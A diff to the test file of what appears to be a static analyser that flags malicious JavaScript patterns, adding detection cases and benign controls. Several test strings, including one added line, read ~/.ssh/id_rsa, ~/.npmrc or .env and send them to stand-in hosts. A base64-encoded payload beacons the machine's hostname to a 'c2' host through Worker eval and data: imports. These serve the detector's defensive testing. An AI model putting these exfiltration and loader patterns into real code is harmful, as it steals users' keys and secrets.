@@ -412,6 +412,7 @@ test('independent review 2: values read from credential stores tracked into requ
   assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n${far}\nrequire('https').request({ hostname: 'x.example.invalid', method: 'POST' }).end(t);`).includes('recon/secret-flow'));
   assert.ok(sig(`const fs = require('fs');\nfs.readFile('.env', 'utf8', (err, data) => { fetch('https://x.example.invalid/', { method: 'POST', body: data }); });`).includes('recon/secret-flow'));
   assert.ok(sig(`const fs = require('fs');\nfunction env() { return fs.readFileSync('.env', 'utf8'); }\nconst s = require('net').connect(9, 'x.example.invalid');\ns.write(env());`).includes('recon/secret-flow'));
+  assert.ok(sig(`const fs = require('fs'), os = require('os');\nconst result = {};\nresult.key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n${far}\nfetch('https://x.example.invalid/', { method: 'POST', body: JSON.stringify(result) });`).includes('recon/secret-flow'));
   // Controls: the .env's token in the Authorization header; a .env read next to a request that carries none of it.
   const deploy = sig(`const fs = require('fs');\nconst tok = fs.readFileSync('.env', 'utf8');\nfetch(api, { method: 'POST', headers: { authorization: tok } });`);
   assert.ok(deploy.includes('recon/dotenv-read') && !deploy.includes('recon/secret-flow'));
@@ -428,7 +429,8 @@ test('independent review 2: downloads returned by a helper (Promise resolve, asy
 
 test('independent review 2: Worker eval, data: URL imports, environment copies, hosts folded from pieces, payloads split across files', () => {
   const sig = (source: string, module = false) => caps(analyzeSource(source, { module }));
-  const b64 = Buffer.from("require('https').get('https://c2.example.invalid/')").toString('base64');
+  const b64 = Buffer.from("require('https').get('https://c2.example.invalid/?h=' + require('os').hostname())").toString('base64');
+  const inlined = Buffer.from("self.onmessage = (e) => fetch(e.data).then((r) => postMessage(r.status));").toString('base64');
   assert.ok(sig(`const { Worker } = require('worker_threads');\nnew Worker(atob('${b64}'), { eval: true });`).includes('eval/decoded-exec'));
   assert.ok(sig(`const { Worker } = require('worker_threads');\nnew Worker(code, { eval: true });`).includes('eval'));
   assert.ok(sig(`await import('data:text/javascript;base64,' + '${b64}');`, true).includes('eval/decoded-exec'));
@@ -436,6 +438,9 @@ test('independent review 2: Worker eval, data: URL imports, environment copies, 
   // Controls: a worker from a file; a feature probe that imports an empty data: URL.
   assert.deepEqual(sig("const { Worker } = require('worker_threads');\nnew Worker(__dirname + '/task.js', { eval: false });"), []);
   assert.ok(!sig("import('data:text/javascript;base64,Cg==');", true).includes('eval/decoded-exec'));
+  // A bundler's inlined worker: base64 in a data: URL, code that only makes requests, analysed as code.
+  const worker = sig(`const { Worker } = require('worker_threads');\nconst src = '${inlined}';\nnew Worker(new URL(\`data:application/javascript;base64,\${src}\`));`);
+  assert.ok(worker.includes('network') && !worker.includes('eval/decoded-exec'), worker.join());
 
   assert.ok(sig('const e = Object.assign({}, process.env);\nsend(JSON.stringify(e));').includes('env/env-serialize'));
   assert.ok(sig('const e = { ...process.env };\nconst f = e;\nsend(JSON.stringify(f));').includes('env/env-serialize'));
